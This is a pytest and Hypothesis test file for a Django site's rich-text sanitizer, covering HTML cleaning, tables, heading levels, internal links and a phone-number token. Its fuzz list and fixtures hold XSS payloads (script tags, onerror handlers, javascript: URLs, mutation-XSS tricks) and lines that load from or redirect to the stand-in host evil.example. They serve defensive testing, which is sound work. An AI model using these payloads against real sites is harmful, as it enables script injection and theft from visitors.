"""Rich text: whatever is written, readers get clean HTML whose links and phone number are right."""

from __future__ import annotations

import itertools
import re

import pytest
from django.core import serializers
from django.db import connection
from django.db.models import F
from django.db.models.functions import Concat
from hypothesis import example, given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from alter_site.content import facts
from alter_site.content.editions.links import LinkedPage
from alter_site.content.models import Organization
from alter_site.content.models.rich_text_field import RichTextField, to_editor, to_stored
from alter_site.content.objects import RichText
from alter_site.content.text import richtext
from tests.factories import (
    ConditionFactory,
    StandardPageFactory,
    TherapyFactory,
    changed,
    facts_saved,
    published,
)
from therapies.models import Technique, Therapy

PHONE = facts.phone("+18669893395")
SAFE_HREF = re.compile(r"https://|tel:|#|/(?!/)")
TABLE = {"table", "thead", "tbody", "tr", "th", "td"}
ALLOWED = {"p", "h3", "h4", "blockquote", "strong", "em", "ul", "ol", "li", "a"} | TABLE
HARMLESS = {"data-type", "lang", "rel", "scope", "start", "title", "type"}

# What people paste and what attackers try, cut up and put together again in any order.
FRAGMENTS = st.sampled_from(
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js>",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">',
        "<a href='JaVa\tScRiPt:alert(1)'>",
        '<a href="data:text/html,<script>alert(1)</script>">',
        '<a href="vbscript:x" onclick="alert(1)">',
        '<a href="https://example.org/&quot; onmouseover=&quot;alert(1)">',
        '<a href="https://example.org/><svg onload=alert(1)>">',
        '<a href="page:00000000-0000-0000-0000-000000000000#x">',
        '<a href="#part" style="color:red" title="\'">',
        "<a name=x>",
        "</a>",
        '<svg><a xlink:href="javascript:alert(1)"><text>',
        "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<style>*{background:url(//evil.example/)}</style>",
        "<p style='position:fixed' onclick=alert(1)>",
        "<p class=MsoNormal><o:p>&nbsp;</o:p></p>",
        "<!--[if gte mso 9]><xml></xml><![endif]-->",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<form action=//evil.example/><input name=q>",
        "<base href=//evil.example/>",
        "<strong>",
        "</strong>",
        "<ul><li>",
        "<table><tr><td colspan=99999 rowspan=-1 onclick=alert(1)>",
        "<th scope='\"><script>alert(1)</script>' style=color:red>",
        "<table><thead><tr><td><table><tr><th>",
        "</table>",
        "<h1 id=x>",
        "<h5>",
        "<blockquote cite=javascript:alert(1)>",
        "[phone]",
        "<",
        ">",
        '"',
        "'",
        "&lt;script&gt;",
        "&#x3c;script&#x3e;",
        "words",
    ]
) | st.text(max_size=8)
HOSTILE = st.lists(FRAGMENTS, max_size=8).map("".join)


def cleaned(html: str) -> str:
    """Return what saving a page puts into the database."""
    field = RichTextField()
    return str(field.get_db_prep_save(to_stored(field.sanitize(html)), connection))


def rendered(html: str, pages: dict[str, LinkedPage] | None = None) -> str:
    return richtext.render(RichText(html), pages or {}, PHONE)


def dangers(html: str) -> list[str]:
    """Return everything a browser would find in the HTML that rich text must not have."""
    found = []
    for node in LexborHTMLParser(f"<body>{html}</body>").css("body *"):
        if node.tag == "div" and node.attributes.get("class") == "table":
            continue  # ours, around each table
        if node.tag not in ALLOWED:
            found.append(f"<{node.tag}>")
        for name, value in node.attributes.items():
            is_safe = SAFE_HREF.match(value or "") if name == "href" else name in HARMLESS
            if not is_safe:
                found.append(f"{name}={value!r}")
    return found


@pytest.mark.django_db
@given(html=HOSTILE)
@example(html='<a href="https://x/&quot;><img src=x onerror=alert(1)>">words</a>')
@example(html="<a href=page:00000000-0000-0000-0000-000000000000>a<a href=javascript:alert(1)>b</a>")
def test_no_html_reaches_readers_as_anything_but_plain_text_and_safe_links(html):
    assert dangers(rendered(cleaned(html))) == []


@pytest.mark.django_db
@given(html=HOSTILE)
def test_cleaning_what_is_clean_changes_nothing(html):
    once = cleaned(html)
    assert cleaned(once) == once


@pytest.mark.django_db
@given(words=st.text(st.characters(categories=["L", "N", "Zs"]), min_size=1).filter(str.strip))
def test_words_survive_cleaning(words):
    assert LexborHTMLParser(rendered(cleaned(f"<p>{words}</p>"))).body.text() == words


# --- every way into the database ----------------------------------------------------------------------

SCRIPT = '<p>Calm<script>alert(1)</script><img src=x onerror=alert(1)> <a href="javascript:x">words</a></p>'


def write_with_save(therapy):
    changed(therapy, use_text=SCRIPT)


def write_with_update(therapy):
    Therapy.objects.filter(pk=therapy.pk).update(use_text=SCRIPT)


def write_with_bulk_update(therapy):
    therapy.use_text = SCRIPT
    Therapy.objects.bulk_update([therapy], ["use_text"])


def write_with_bulk_create(therapy):
    Therapy.objects.filter(pk=therapy.pk)._raw_delete("default")
    words = {"summary": therapy.summary, "introduction": therapy.introduction}
    Therapy.objects.bulk_create([Therapy(pk=therapy.pk, slug="new", title="New", use_text=SCRIPT, **words)])


def write_with_a_fixture(therapy):
    therapy.use_text = SCRIPT
    (row,) = serializers.deserialize("python", serializers.serialize("python", [therapy]))
    row.save()


@pytest.mark.django_db
@pytest.mark.parametrize(
    "write",
    [
        write_with_save,
        write_with_update,
        write_with_bulk_update,
        write_with_bulk_create,
        write_with_a_fixture,
    ],
)
def test_no_way_of_writing_puts_script_into_the_database(write, visit):
    therapy = TherapyFactory()
    write(therapy)
    stored = Therapy.objects.get(pk=therapy.pk)
    assert dangers(stored.use_text) == []
    html = visit(published(stored).path).html
    assert "alert(1)" not in html
    assert "Calm" in html


@pytest.mark.django_db
def test_a_fixture_keeps_links_to_pages_that_are_loaded_after_it():
    condition = ConditionFactory()
    link = f'<p><a href="page:{condition.pk}#signs">words</a></p>'
    (row,) = serializers.deserialize(
        "python", serializers.serialize("python", [TherapyFactory(use_text=link)])
    )
    row.save()
    assert Therapy.objects.get().use_text == link


@pytest.mark.django_db
def test_a_part_is_cleaned_like_a_page():
    therapy = TherapyFactory(techniques=[{"title": "Breathing", "text": SCRIPT}])
    Technique.objects.update(text=SCRIPT)
    assert dangers(therapy.techniques.get().text) == []


@pytest.mark.django_db
def test_the_database_can_still_compare_and_combine_the_field():
    # An expression is not HTML, and cleaning must let it through.
    TherapyFactory(introduction="<p>One.</p>", use_text="<p>Two.</p>")
    Therapy.objects.update(use_text=F("introduction"))
    assert Therapy.objects.filter(use_text="<p>One.</p>", introduction__contains="One").exists()
    assert Therapy.objects.update(use_text=Concat("introduction", "use_text")) == 1


# --- Word ---------------------------------------------------------------------------------------------

WORD = """
<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta name=Generator content=Word>
<style><!-- p.MsoNormal {margin:0in; font-family:"Calibri",sans-serif;} --></style></head>
<body lang=EN-US style='tab-interval:.5in'><!--StartFragment-->
<p class=MsoNormal style='margin-bottom:8.0pt'><b style='mso-bidi-font-weight:normal'><span
style='font-size:14.0pt;color:#2F5496'>Feeling safe</span></b><o:p></o:p></p>
<p class=MsoListParagraphCxSpFirst style='margin:0'><![if !supportLists]><span
style='font-family:Symbol'>·<span style='font:7.0pt "Times"'>&nbsp; </span></span><![endif]>Rest</p>
<p class=MsoNormal>See <a href="https://example.org/study" target="_blank"><span style='color:blue'>a
study</span></a>.<script>document.location='https://evil.example/'</script></p><!--EndFragment--></body></html>
"""


@pytest.mark.django_db
def test_text_pasted_from_word_keeps_its_words_and_links_and_nothing_else(visit):
    page = published(StandardPageFactory(sections=[{"heading": "Pasted", "text": WORD}]))
    document = visit(page.path)
    text = document.text("main")
    for words in ("Feeling safe", "Rest", "a study"):
        assert words in text
    for leftover in ("mso", "Mso", "StartFragment", "supportLists", "document.location", "Calibri"):
        assert leftover not in document.one("main").html
    assert "https://example.org/study" in document.hrefs("main a")


# --- headings, quotes, tables -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("typed", "stored"),
    [
        ("<h1>A</h1><h2>B</h2>", "<h3>A</h3><h3>B</h3>"),
        ("<h5 class=x>A</h5><h6>B</h6>", "<h4>A</h4><h4>B</h4>"),
        ("<p><b>A</b> <i>B</i></p>", "<p><strong>A</strong> <em>B</em></p>"),
        ('<b style="font-weight:normal" id="docs-internal-guid-1"><p>A</p></b>', "<p>A</p>"),
        ("<div>A</div><div>B<br>C<ul><li>D</li></ul></div>", "<p>A</p><p>B C</p><ul><li>D</li></ul>"),
        ("<blockquote><p>A</p></blockquote>", "<blockquote><p>A</p></blockquote>"),
        ("<ul><li>A<ol><li>B</li></ol></li></ul>", "<ul><li>A<ol><li>B</li></ol></li></ul>"),
    ],
)
def test_what_is_typed_without_script_gets_our_elements(typed, stored):
    assert cleaned(typed) == stored


@pytest.mark.parametrize(
    ("typed", "stored"),
    [
        (  # as the editor writes it
            '<table style="x"><colgroup><col></colgroup><tbody><tr><th colspan="1"><p>Day</p></th></tr>'
            '<tr><td rowspan="1"><p>One</p></td></tr></tbody></table>',
            '<table><thead><tr><th scope="col">Day</th></tr></thead>'
            "<tbody><tr><td>One</td></tr></tbody></table>",
        ),
        (  # rows of unequal length
            "<table><tr><td>A<td>B<tr><td>C</table>",
            "<table><tbody><tr><td>A</td><td>B</td></tr><tr><td>C</td><td></td></tr></tbody></table>",
        ),
        (  # what a cell spans stays empty
            "<table><tr><td colspan=2>A<td rowspan=2>B<tr><td>C<td>D</table>",
            "<table><tbody><tr><td>A</td><td></td><td>B</td></tr>"
            "<tr><td>C</td><td>D</td><td></td></tr></tbody></table>",
        ),
        (  # a heading beside each row
            "<table><tr><th>A<td>B<tr><th>C<th>D</table>",
            '<table><tbody><tr><th scope="row">A</th><td>B</td></tr>'
            '<tr><th scope="row">C</th><td>D</td></tr></tbody></table>',
        ),
        (  # an empty corner is no heading, and stays none
            "<table><thead><tr><th></th><th>A</th></tr></thead><tr><th>B</th><td>C</td></tr></table>",
            '<table><thead><tr><td></td><th scope="col">A</th></tr></thead>'
            '<tbody><tr><th scope="row">B</th><td>C</td></tr></tbody></table>',
        ),
        (  # a table in a table leaves its words
            "<table><tr><td>A<table><tr><td>B<td>C</table></table>",
            "<table><tbody><tr><td>AB C</td></tr></tbody></table>",
        ),
        ("<p>A</p><table></table>", "<p>A</p>"),
    ],
)
def test_a_table_is_stored_as_a_plain_grid_with_its_headings(typed, stored):
    assert cleaned(typed) == stored


def test_a_cell_that_claims_a_million_places_gets_a_few():
    html = cleaned("<table><tr><td colspan=1000000 rowspan=1000000>A</table>")
    assert html.count("<td>") == 20


def test_a_span_of_thousands_of_digits_breaks_no_table():
    cell = '<table><tr><td colspan="%s">A<td>B</table>'
    assert cleaned(cell % ("9" * 5_000)) == cleaned(cell % 1_000_000)


def test_a_table_scrolls_by_itself_and_is_named_by_its_columns():
    html = rendered(cleaned('<table><tr><th>Day &amp; "night"<th><strong>Who</strong><tr><td>1<td>2</table>'))
    part = LexborHTMLParser(html).css_first("div.table")
    assert part.attributes["tabindex"] == "0"
    assert part.attributes["role"] == "group"
    assert part.attributes["aria-label"] == 'Table: Day & "night", Who'


@pytest.mark.parametrize(("under", "levels"), [(1, ["h2", "h3"]), (2, ["h3", "h4"]), (3, ["h4", "h5"])])
def test_headings_in_a_text_follow_the_heading_it_stands_under(under, levels):
    html = richtext.render(RichText("<h3>A</h3><h4>B</h4>"), {}, PHONE, under)
    assert [node.tag for node in LexborHTMLParser(html).css("body *")] == levels


@pytest.mark.django_db
def test_every_place_of_a_page_keeps_the_outline(visit):
    text = "<h3>A part</h3><p>Words.</p><h4>A smaller part</h4><p>Words.</p>"
    therapy = TherapyFactory(introduction=text, use_text=text, techniques=[{"title": "One", "text": text}])
    document = visit(published(therapy).path)
    levels = [int(node.tag[1]) for node in document.all("main h1, main h2, main h3, main h4, main h5")]
    assert all(after - before <= 1 for before, after in itertools.pairwise(levels))
    assert levels[:3] == [1, 2, 3]
    assert 5 in levels


def test_an_address_loses_what_would_tell_who_sent_the_reader():
    html = cleaned('<a href="https://example.org/a?utm_source=x&amp;page=2&amp;fbclid=3#part">words</a>')
    assert html == '<a href="https://example.org/a?page=2#part">words</a>'


# --- links --------------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_a_pasted_address_of_ours_is_kept_as_the_identity_of_its_page():
    condition = ConditionFactory(slug="grief")
    assert to_stored('<p><a href="/conditions/grief/#signs">words</a></p>') == (
        f'<p><a href="page:{condition.pk}#signs">words</a></p>'
    )


@pytest.mark.django_db
def test_a_pasted_address_with_our_own_host_is_a_link_to_our_page_too(settings):
    settings.SITE_URL = "https://site.example"
    condition = ConditionFactory(slug="grief")
    assert to_stored('<a href="https://site.example/conditions/grief/">words</a>') == (
        f'<a href="page:{condition.pk}">words</a>'
    )


@pytest.mark.django_db
def test_a_host_that_only_begins_like_ours_is_another_host(settings):
    settings.SITE_URL = "https://site.example"
    html = '<a href="https://site.example.evil/conditions/grief/">words</a>'
    assert to_stored(html) == html


@pytest.mark.django_db
@pytest.mark.parametrize(
    "href", ["/nothing/here/", "http://example.org/", "mailto:a@example.org", "//example.org/", "", "page:12"]
)
def test_a_link_that_leads_nowhere_safe_leaves_its_words(href):
    assert cleaned(f'<p><a href="{href}">words</a></p>') == "<p>words</p>"


@pytest.mark.django_db
def test_the_editor_reads_addresses_instead_of_identities():
    condition = ConditionFactory(slug="grief")
    stored = f'<p><a href="page:{condition.pk}#signs">words</a></p>'
    assert to_editor(stored) == '<p><a href="/conditions/grief/#signs">words</a></p>'
    assert to_stored(to_editor(stored)) == stored


@pytest.mark.parametrize(
    "attributes",
    [
        'href=" https://example.com/a "',
        'href="HTTPS://example.com/a"',
        'href="\u200bhttps://example.com/a"',
        "href='https://example.com/a'",
        "target=_blank HREF = https://example.com/a",
        'data-href="https://example.org/b" href="https://example.com/a"',
    ],
)
def test_a_link_is_kept_however_its_address_is_written(attributes):
    assert to_stored(f"<p><a {attributes}>x</a></p>") == '<p><a href="https://example.com/a">x</a></p>'


@pytest.mark.django_db
def test_a_link_in_a_text_survives_a_change_of_slug(visit):
    asked = {"question": "Is it common?", "answer": "<p>Yes.</p>"}
    condition = published(ConditionFactory(slug="old", questions=[asked]))
    part = "#part-questions"
    introduction = f'<p><a href="/conditions/old/{part}">words</a></p>'
    therapy = published(TherapyFactory(introduction=introduction))
    published(changed(condition, slug="new"))
    assert f"/conditions/new/{part}" in visit(therapy.path).hrefs("main a")


@pytest.mark.django_db
def test_a_link_to_a_page_that_is_not_live_leaves_its_words(visit):
    condition = ConditionFactory(slug="grief")
    therapy = published(TherapyFactory(introduction='<p>About <a href="/conditions/grief/">grief</a>.</p>'))
    document = visit(therapy.path)
    assert "About grief." in document.text("main")
    assert condition.path not in document.hrefs("main a")


def test_a_link_to_another_site_tells_it_nothing_about_the_page():
    assert rendered('<a href="https://example.org/">words</a>') == (
        '<a href="https://example.org/" rel="noreferrer">words</a>'
    )


def test_the_pages_a_text_links_to_are_named_in_order():
    first, second = ("11111111-1111-1111-1111-111111111111", "22222222-2222-2222-2222-222222222222")
    text = RichText(f'<p><a href="page:{second}">b</a> <a href="page:{first}#x">a</a> <a href="#y">c</a></p>')
    assert list(richtext.page_ids(text)) == [second, first]


# --- the phone number ---------------------------------------------------------------------------------


def test_the_phone_token_becomes_a_number_that_dials():
    assert rendered("<p>Call [phone].</p>") == (
        '<p>Call <a href="tel:+18669893395">(866)\N{NO-BREAK SPACE}989-3395</a>.</p>'
    )


def test_inside_a_link_the_phone_token_is_the_number_alone():
    html = rendered('<p><a href="tel:+18669893395">Call [phone]</a></p>')
    assert html == '<p><a href="tel:+18669893395">Call (866)\N{NO-BREAK SPACE}989-3395</a></p>'


def test_a_phone_token_in_an_address_does_not_break_the_link():
    html = rendered('<p><a href="https://example.org/?[phone]">words</a></p>')
    assert LexborHTMLParser(html).body.text() == "words"
    assert html.count("<a ") == 1


def test_a_phone_token_in_words_whose_link_is_dead_still_dials():
    dead = "page:00000000-0000-0000-0000-000000000000"
    assert 'href="tel:' in rendered(f'<p><a href="{dead}">Call [phone]</a></p>')


@pytest.mark.django_db
def test_a_new_number_stands_on_pages_that_were_published_before(visit):
    therapy = published(TherapyFactory(introduction="<p>Call [phone].</p>"))
    Organization.objects.update(phone="949-555-0199")
    facts_saved()
    document = visit(therapy.path)
    assert "(949) 555-0199" in document.text("main").replace("\N{NO-BREAK SPACE}", " ")
    assert "989-3395" not in document.html


# --- plain text ---------------------------------------------------------------------------------------


def test_plain_text_becomes_paragraphs_and_its_signs_stay_signs():
    assert richtext.paragraphs("One < two.\n\n  Three & “four”.\n") == RichText(
        "<p>One &lt; two.</p><p>Three &amp; “four”.</p>"
    )
